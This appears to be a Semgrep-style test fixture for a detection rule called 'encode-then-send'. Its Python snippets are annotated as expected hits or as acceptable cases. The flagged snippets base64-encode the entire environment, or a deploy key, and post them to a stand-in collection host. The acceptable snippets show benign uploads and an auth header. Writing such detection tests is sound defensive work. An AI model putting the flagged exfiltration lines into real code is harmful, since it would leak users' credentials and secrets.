import base64
import json
import os
import urllib.request

import requests

blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
# ruleid: encode-then-send
urllib.request.urlopen("https://stats.example.invalid/p", data=blob)


folder = os.environ["PICTURES"]
with open(os.path.join(folder, "cover.png"), "rb") as picture:
    cover = base64.b64encode(picture.read()).decode()
# ok: encode-then-send
requests.post("https://ocr.example.com/read", json={"image": cover})

key = base64.b64encode(os.environ["DEPLOY_KEY"].encode()).decode()
# ruleid: encode-then-send
requests.post("https://stats.example.invalid/p", json={"id": key})

# ok: encode-then-send
requests.post("https://api.example.com/items", json={"token": os.environ["TOKEN"]})
login = base64.b64encode(os.environ["LOGIN"].encode()).decode()
# ok: encode-then-send
requests.post("https://api.example.com/items", headers={"Authorization": f"Basic {login}"})
